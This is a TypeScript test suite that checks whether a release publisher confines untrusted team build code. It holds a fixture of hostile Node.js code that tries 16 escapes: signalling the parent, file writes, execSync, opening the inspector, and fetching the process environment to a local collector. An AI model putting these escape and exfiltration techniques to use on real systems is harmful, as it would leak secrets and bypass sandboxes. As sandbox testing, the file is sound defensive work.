import { equal, match, rejects } from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { after, afterEach, test } from 'node:test';
import type { Release } from '@fan-base/shared-contracts/release';
import { computeIntegrity } from '@fan-base/shared-releases/integrity';
import { createTokenId, issueToken } from '@fan-base/shared-releases/issued-tokens';
import { openFolder } from '@fan-base/shared-releases/open-folder';
import { publish } from '@fan-base/shared-releases/publish';
import { signPublishingToken } from '@fan-base/shared-releases/publishing-token';
import { createStatement } from '@fan-base/shared-releases/statement';
import { createUses } from '@fan-base/shared-releases/testing/create-release';
import { makeBuild } from '@fan-base/shared-releases/testing/make-build';
import { passRehearsal } from '@fan-base/shared-releases/testing/pass-rehearsal';
import { freePort } from '@fan-base/shared-server/free-port';
import { create } from 'tar';
import { runFanBase } from '../cli/commands.ts';
import { compareRelease } from './compare-release.ts';

/*
 * Each way by which the code of a team runs on the publisher's machine, with a build that tries to take it over. What it
 * reaches arrives at the collector, in the file, or as a signal.
 */

const folder = mkdtempSync(join(tmpdir(), 'fan-base-hostile-'));
after(() => rmSync(folder, { recursive: true, force: true }));
const secret = 'a secret of more than thirty-two characters';
const written = join(folder, 'written');

const collected: string[] = [];
const collector = createServer((request, response) => {
  collected.push(request.url ?? '');
  response.end();
}).listen(0, '127.0.0.1');
// Also of connections without a request.
let connections = 0;
collector.on('connection', () => {
  connections += 1;
});
await once(collector, 'listening');
after(() => collector.close());
const url = `http://127.0.0.1:${(collector.address() as AddressInfo).port}`;

let signals = 0;
process.on('SIGUSR1', () => {
  signals += 1;
});

/** Code of a server module that tries all ways out, and fails where it is rendered or read once all attempts have settled. */
const attack = `
const attempts = [
  () => process.kill(process.ppid, 'SIGUSR1'),
  () => process.kill(${process.pid}, 'SIGUSR1'),
  () => process._debugProcess(process.ppid),
  () => process._kill(process.ppid, 10),
  () => process.getBuiltinModule('node:fs').writeFileSync(${JSON.stringify(written)}, 'by a built-in module'),
  () => process.binding('fs').writeString(1, 'x'),
  () => process.getBuiltinModule('node:child_process').execSync('touch ${written}'),
  () => new (process.getBuiltinModule('node:worker_threads').Worker)('fetch("${url}/worker")', { eval: true }),
  () => process.getBuiltinModule('node:net').connect(${new URL(url).port}, '127.0.0.1').end('GET /net HTTP/1.1\\n\\n'),
  () => process.getBuiltinModule('node:inspector').open(0),
  () => require('node:fs').writeFileSync(${JSON.stringify(written)}, 'by require'),
  () => module.constructor._load('fs').writeFileSync(${JSON.stringify(written)}, 'by a loader'),
  () => import('node:fs').then((fs) => fs.writeFileSync(${JSON.stringify(written)}, 'by import')),
  () => fetch('${url}/fetch?' + encodeURIComponent(JSON.stringify(process.env))),
  () => new WebSocket('${url.replace('http', 'ws')}/websocket'),
  () => new Function('return fetch("${url}/function")')(),
];
const settled = Promise.allSettled(attempts.map(async (attempt) => attempt()));
const report = async () => {
  await settled;
  throw new Error('tried ' + attempts.length + ' ways');
};
exports.remote = { name: 'mf-travel', pages: {}, widgets: { next: { load: report } }, messages: report };
`;
const tried = /tried 16 ways/;

const described = (build: string): Release => JSON.parse(readFileSync(join(build, 'release.json'), 'utf8'));
const describe = (build: string, changes: Partial<Release>) =>
  writeFileSync(join(build, 'release.json'), JSON.stringify({ ...described(build), ...changes }));

/** A build of mf-travel with the attack, as its team would publish it. */
function makeHostile(version: string, server = attack): string {
  const build = makeBuild('mf-travel', version, version, { server });
  describe(build, { statement: createStatement(described(build), { commit: null, builder: 'mallory' }) });
  return build;
}

/** A build of mf-news that places a widget of mf-travel and has an expectation of it. */
function makeUser(): string {
  const build = makeBuild('mf-news', '1.0.0', 'user', {
    uses: createUses({ widgets: [{ remote: 'mf-travel', widget: 'next', props: {} }] }),
  });
  const source = `exports.expectations = [{ remote: 'mf-travel', widget: 'next', holds: { 'is there': () => true } }];`;
  writeFileSync(join(build, 'node/expectations.cjs'), source);
  const { integrity } = described(build);
  describe(build, {
    integrity: { ...integrity, 'node/expectations.cjs': computeIntegrity(Buffer.from(source)) },
  });
  return build;
}

const directory = join(folder, 'releases');
const releases = openFolder(directory);
await publish({ build: makeUser(), releases, why: '' });
await publish({ build: makeBuild('mf-travel', '1.0.0', 'a'), releases, why: '' });
await publish({ build: makeHostile('2.0.0'), releases, why: '', isHeld: true });
await passRehearsal(releases, 'mf-travel', '2.0.0');

// Commands and the publisher answer once the confined processes have ended.
afterEach(async () => {
  // What was sent before would arrive before.
  await fetch(`${url}/marker`, { headers: { connection: 'close' } });
  equal(collected.splice(0).join(), '/marker');
  equal(connections, 1);
  connections = 0;
  equal(existsSync(written), false);
  equal(signals, 0);
});

async function run(...args: string[]): Promise<string> {
  const lines: string[] = [];
  const add = (line: string) => lines.push(line);
  await runFanBase(['release', ...args], { env: { RELEASES_DIR: directory }, print: add, log: add });
  return lines.join('\n');
}

/** Starts `npm run release -- accept` as operators do. @param flags of its Node */
async function startAccept(port: number, flags: readonly string[] = []) {
  const program = join(import.meta.dirname, '../cli/fan-base.ts');
  const env = {
    ...process.env,
    RELEASES_DIR: directory,
    PUBLISH_SECRET: secret,
    PUBLISH_LISTEN: `127.0.0.1:${port}`,
    AWS_SECRET_ACCESS_KEY: 'the key of the store',
  };
  const child = spawn(process.execPath, [...flags, program, 'release', 'accept'], {
    env,
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  const lines: string[] = [];
  for (const stream of [child.stdout, child.stderr])
    createInterface({ input: stream }).on('line', (line) => {
      lines.push(line);
      if (line.startsWith('accepting')) child.emit('accepting');
    });
  const ended = once(child, 'close');
  await Promise.race([once(child, 'accepting'), ended]);
  return {
    child,
    lines,
    async stop() {
      child.kill('SIGTERM');
      await ended;
    },
  };
}

test('[TEAM-1] a build that is posted to accept reaches neither the publisher nor the network', async () => {
  const [port, inspectorPort] = [await freePort(), await freePort()];
  const accept = await startAccept(port, [`--inspect-port=${inspectorPort}`]);
  try {
    const build = makeHostile('3.0.0');
    const chunks: Buffer[] = [];
    for await (const chunk of create({ cwd: build, gzip: true }, ['release.json', 'node', 'web', 'maps']))
      chunks.push(chunk);
    const issued = {
      id: createTokenId(),
      remote: 'mf-travel',
      name: 'mallory',
      expires: Date.now() + 60_000,
    };
    await releases.changeRegistry((registry) =>
      issueToken(registry, issued, { at: new Date().toISOString(), by: 'ole', why: '' }),
    );
    const token = signPublishingToken(issued, secret);
    const answer = await fetch(`http://127.0.0.1:${port}/releases/mf-travel`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/gzip' },
      body: new Uint8Array(Buffer.concat(chunks)),
    });
    equal(answer.status, 422);
    const text = await answer.text();
    match(text, /mf-travel 3\.0\.0 is not published/);
    match(text, tried);
    await rejects(fetch(`http://127.0.0.1:${inspectorPort}/json`));
    // Also by a signal of another process of this user.
    accept.child.kill('SIGUSR1');
    equal((await fetch(`http://127.0.0.1:${port}/healthz`)).status, 200);
    await rejects(fetch(`http://127.0.0.1:${inspectorPort}/json`));
  } finally {
    await accept.stop();
  }
});

test('[TEAM-1] accept does not start if the code of teams cannot be confined', async () => {
  const unconfined = /--permission is required|without the permission (?:net|child)/;
  for (const [flag, replacement, reason] of [
    ['--permission', '--no-warnings', unconfined],
    ['--disable-sigusr1', '--allow-net', unconfined],
    ['--disable-sigusr1', '--allow-child-process', unconfined],
    // Only the attempts find these.
    [
      '--disable-sigusr1',
      '--allow-fs-read=/etc/hosts',
      /cannot be confined.*: it can read a file, open a file$/m,
    ],
    [
      '--disable-sigusr1',
      '--allow-fs-read=/proc',
      /cannot be confined.*: it can read the environment of the process/,
    ],
  ] as const) {
    const withOtherFlag = `
      import childProcess from 'node:child_process';
      import { syncBuiltinESMExports } from 'node:module';
      const { spawn } = childProcess;
      childProcess.spawn = (program, args, options) => spawn(program, args.map((arg) => arg === '${flag}' ? '${replacement}' : arg), options);
      syncBuiltinESMExports();`;
    const accept = await startAccept(await freePort(), [
      '--import',
      `data:text/javascript,${encodeURIComponent(withOtherFlag)}`,
    ]);
    await accept.stop();
    equal(accept.child.exitCode, 1);
    match(accept.lines.join('\n'), reason);
  }
});

test('[TEAM-1] a build published from a folder has no access to the machine or network', async () => {
  const text = await run('publish', '--build', makeHostile('4.0.0'));
  match(text, /mf-travel 4\.0\.0 is not published/);
  match(text, tried);
});

test('[TEAM-1] a build does not get a shared module whose name it hides, which would not be frozen', async () => {
  const text = await run('publish', '--build', makeHostile('5.0.0', `require('zu' + 'stand');`));
  match(text, /zustand is not a shared module/);
});

for (const args of [
  ['promote', 'mf-travel@2.0.0', '--share', '5%'],
  ['promote', 'mf-travel@2.0.0'],
])
  test(`[TEAM-1] a held version rendered for ${args[0]} has no access to the machine or network`, async () => {
    match(
      await run(...args),
      /expects of next of mf-travel that it can be rendered; 2\.0\.0 fails: tried 16 ways/,
    );
  });

test('[TEAM-1] a held version that a rehearsal compares with the expectations of pages reaches nothing', async () => {
  const release = described(makeHostile('2.0.0'));
  const stored = JSON.parse(new TextDecoder().decode(await releases.read('mf-travel/2.0.0/release.json')));
  equal(release.integrity['node/server.cjs'], stored.integrity['node/server.cjs']);
  match((await compareRelease(releases, stored)).join(), /2\.0\.0 fails: tried 16 ways/);
});
